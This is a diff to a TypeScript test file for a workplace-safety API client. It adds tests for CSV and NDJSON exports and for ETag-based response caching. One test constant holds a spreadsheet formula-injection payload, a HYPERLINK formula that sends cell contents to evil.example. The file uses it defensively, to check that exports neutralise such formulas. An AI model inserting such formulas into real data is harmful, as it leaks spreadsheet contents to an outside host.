@@ -1,11 +1,16 @@
 import assert from 'node:assert/strict';
 import { randomUUID } from 'node:crypto';
-import { readFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { writeFile } from 'node:fs/promises';
 import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import {
   AuthenticationError,
+  type CachedAnswer,
   createClient,
+  type CsvRecord,
   type Incident,
   NotFoundError,
   PermissionError,
@@ -18,6 +23,7 @@ import {
 import { importFile } from '../../src/import/import.ts';
 import { createTestContext, STORES, seedAccount, seedKey, type TestContext } from '../helpers.ts';
 import { account, gone, incident, minute, ndjson } from '../import/files.ts';
+import { parseCsv } from '../strict-csv.ts';
 
 /** The SDK against the real server, listening on a port (the SDK speaks HTTP through fetch). */
 
@@ -43,6 +49,26 @@ const user = (accountId: string, name: string) => ({
   role: 'manager',
 });
 
+/** Text that spreadsheets would run as a formula, and text that CSV must quote. */
+const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+const QUOTED = 'Spill, "wet" floor\nnear Dock 3 – Åsa 🚧';
+
+/**
+ * A record as a CSV export's row holds it: every field as text, null as empty, a text field that a
+ * spreadsheet would take for a formula behind a `'` (src/lib/csv.ts).
+ */
+const csvRecord = (record: Record<string, unknown>): CsvRecord =>
+  Object.fromEntries(
+    Object.entries(record).map(([name, value]) => [
+      name,
+      value === null
+        ? ''
+        : typeof value === 'string' && /^[=+\-@\t\r]/.test(value)
+          ? `'${value}`
+          : String(value),
+    ]),
+  );
+
 /** Rejects with a SafetyApiError, which it returns. */
 async function apiError(call: Promise<unknown>): Promise<SafetyApiError> {
   const error = await call.catch((caught: unknown) => caught);
@@ -66,6 +92,9 @@ for (const store of STORES) {
       baseUrl = `http://127.0.0.1:${(ctx.app.server.address() as AddressInfo).port}`;
       accountId = randomUUID();
       for (let i = 1; i <= INCIDENTS; i += 1) incidents.push(incident(accountId, i, minute(i)));
+      // For the CSV export: a field that must be quoted, one guarded against formulas.
+      Object.assign(incidents[0]!, { description: FORMULA });
+      Object.assign(incidents[1]!, { description: QUOTED, location: 'Dock 3' });
       users.push(user(accountId, 'Ann'), user(accountId, 'Bob'), user(accountId, 'Cy'));
       await importFile(
         ctx.db,
@@ -222,6 +251,174 @@ for (const store of STORES) {
       }
       await (await client.exportLocations()).cancel();
       assert.equal((await client.listDepartments()).data.length, 2);
+    });
+
+    test('a CSV export: rows as text records under the header row, in the list order', async () => {
+      const listed = (await client.listIncidents({ limit: 200 })).data.data;
+      const exported = await client.exportIncidents({ format: 'csv' });
+      assert.match(exported.cursor, /./);
+      const rows: CsvRecord[] = [];
+      for await (const row of exported) rows.push(row);
+      assert.deepEqual(rows, listed.map(csvRecord));
+      assert.ok(rows.some((row) => row.description === `'${FORMULA}`));
+      assert.ok(rows.some((row) => row.description === QUOTED && row.location === 'Dock 3'));
+      await assert.rejects(async () => {
+        for await (const row of exported) assert.fail(`a second pass yielded ${JSON.stringify(row)}`);
+      }, /this export was read already/);
+
+      const users: CsvRecord[] = [];
+      for await (const row of await client.exportUsers({ format: 'csv' })) users.push(row);
+      assert.deepEqual(users, (await client.listUsers()).data.map(csvRecord));
+    });
+
+    test('body: the bytes of an export, written to a file as they came, and then no rows', async () => {
+      const dir = mkdtempSync(join(tmpdir(), 'safety-sdk-export-'));
+      try {
+        const listed = (await client.listIncidents({ limit: 200 })).data.data;
+        const csv = await client.exportIncidents({ format: 'csv' });
+        await writeFile(join(dir, 'incidents.csv'), csv.body);
+        // The file the service wrote (RFC 4180, CRLF), not a re-encoding of parsed rows.
+        const [header, ...records] = parseCsv(readFileSync(join(dir, 'incidents.csv'), 'utf8'));
+        assert.deepEqual(header, Object.keys(listed[0]!));
+        assert.deepEqual(
+          records.map((fields) => Object.fromEntries(header!.map((name, i) => [name, fields[i]]))),
+          listed.map(csvRecord),
+        );
+        assert.throws(
+          () => csv[Symbol.asyncIterator](),
+          /this export is read as bytes \(its body was taken\)/,
+        );
+
+        const exported = await client.exportIncidents();
+        await writeFile(join(dir, 'incidents.ndjson'), exported.body);
+        const lines = readFileSync(join(dir, 'incidents.ndjson'), 'utf8').split('\n');
+        assert.equal(lines.pop(), '', 'every line ends in LF');
+        assert.deepEqual(
+          lines.map((line) => JSON.parse(line)),
+          listed,
+        );
+
+        // Rows first: the body is no longer whole.
+        const iterated = await client.exportDepartments();
+        for await (const row of iterated) assert.match(row.name, /./);
+        assert.throws(() => iterated.body, /this export is being read as rows/);
+      } finally {
+        rmSync(dir, { recursive: true, force: true });
+      }
+    });
+
+    test('cache: a GET goes again with If-None-Match, and the 304 is answered from the cache', async () => {
+      // An account of its own: the test changes its data.
+      const own = randomUUID();
+      const owned = [1, 2, 3].map((n) => incident(own, n, minute(n)));
+      await importFile(ctx.db, ndjson([account(own, { rate_limit_per_hour: 1000 }), ...owned]));
+      const { rawKey: ownKey } = await seedKey(ctx.db, own);
+      const exchanges: { path: string; ifNoneMatch: string | null; status: number; etag: string | null }[] =
+        [];
+      const cached = createClient({
+        baseUrl,
+        apiKey: ownKey,
+        cache: true,
+        fetch: async (request: Request) => {
+          const response = await fetch(request);
+          const { pathname, search } = new URL(request.url);
+          exchanges.push({
+            path: `${pathname}${search}`,
+            ifNoneMatch: request.headers.get('if-none-match'),
+            status: response.status,
+            etag: response.headers.get('etag'),
+          });
+          return response;
+        },
+      });
+
+      const first = await cached.listIncidents({ limit: 2 });
+      const again = await cached.listIncidents({ limit: 2 });
+      assert.deepEqual(again.data, first.data);
+      assert.deepEqual(
+        exchanges.map(({ status }) => status),
+        [200, 304],
+      );
+      assert.match(exchanges[0]!.etag ?? '', /^"/);
+      assert.equal(exchanges[1]!.ifNoneMatch, exchanges[0]!.etag);
+      // The 304's own headers: not counted against the allowance, with its own request id.
+      assert.ok(first.rateLimit !== null && again.rateLimit !== null);
+      assert.equal(again.rateLimit.remaining, first.rateLimit.remaining);
+      assert.notEqual(again.requestId, first.requestId);
+      assert.match(again.requestId ?? '', /./);
+
+      // Another URL is another answer; each is kept.
+      await cached.listIncidents({ limit: 2, page: 2 });
+      // The same parameters in another order: the same answer.
+      await cached.listIncidents({ page: 2, limit: 2 });
+      const one = await cached.getIncident(owned[0]!.id);
+      assert.deepEqual((await cached.getIncident(owned[0]!.id)).data, one.data);
+      assert.deepEqual(
+        exchanges.slice(2).map(({ path, ifNoneMatch, status }) => [path, ifNoneMatch !== null, status]),
+        [
+          ['/api/v1/public/incidents?limit=2&page=2', false, 200],
+          ['/api/v1/public/incidents?page=2&limit=2', true, 304],
+          [`/api/v1/public/incidents/${owned[0]!.id}`, false, 200],
+          [`/api/v1/public/incidents/${owned[0]!.id}`, true, 304],
+        ],
+      );
+
+      // Changed on the service: a 200 with the new data, which replaces the kept one.
+      await importFile(ctx.db, ndjson([{ ...owned[2]!, status: 'closed', updated_at: minute(50) }]));
+      exchanges.length = 0;
+      const changed = await cached.listIncidents({ limit: 2 });
+      assert.equal(changed.data.data[0]?.status, 'closed');
+      assert.deepEqual((await cached.listIncidents({ limit: 2 })).data, changed.data);
+      assert.deepEqual(
+        exchanges.map(({ ifNoneMatch, status }) => [ifNoneMatch !== null, status]),
+        [
+          [true, 200],
+          [true, 304],
+        ],
+      );
+
+      // Without the option, no If-None-Match: every read is a 200.
+      const seen: (string | null)[] = [];
+      const plain = createClient({
+        baseUrl,
+        apiKey: ownKey,
+        fetch: (request: Request) => {
+          seen.push(request.headers.get('if-none-match'));
+          return fetch(request);
+        },
+      });
+      await plain.listUsers();
+      await plain.listUsers();
+      assert.deepEqual(seen, [null, null]);
+    });
+
+    test('cache: an EtagCache of your own is asked by URL, and a 304 answers with the body it keeps', async () => {
+      const kept = new Map<string, CachedAnswer>();
+      const cache = {
+        get: async (url: string) => kept.get(url),
+        set: async (url: string, answer: CachedAnswer) => {
+          kept.set(url, answer);
+        },
+      };
+      const cached = createClient({ baseUrl, apiKey: rawKey, cache });
+      const { data } = await cached.listLocations();
+      const url = `${baseUrl}/api/v1/public/locations`;
+      const answer = kept.get(url);
+      assert.ok(answer !== undefined, `kept under ${url}: ${[...kept.keys()].join(', ')}`);
+      assert.deepEqual(JSON.parse(answer.body).data, data);
+      // The service's ETag still matches, so the body comes from the cache: what it holds, it gets.
+      kept.set(url, {
+        etag: answer.etag,
+        body: JSON.stringify({ error: false, data: [{ ...data[0], name: 'Kept copy' }] }),
+      });
+      assert.deepEqual(
+        (await cached.listLocations()).data.map((row) => row.name),
+        ['Kept copy'],
+      );
+      // Changes and exports are not cached: the feed has no ETag, an export is a stream.
+      await cached.listChanges({ cursor: 'latest' });
+      await (await cached.exportLocations()).cancel();
+      assert.deepEqual([...kept.keys()], [url]);
     });
 
     test('sync: the export then the feed, a cursor saved after each step, later changes and deletions', async () => {
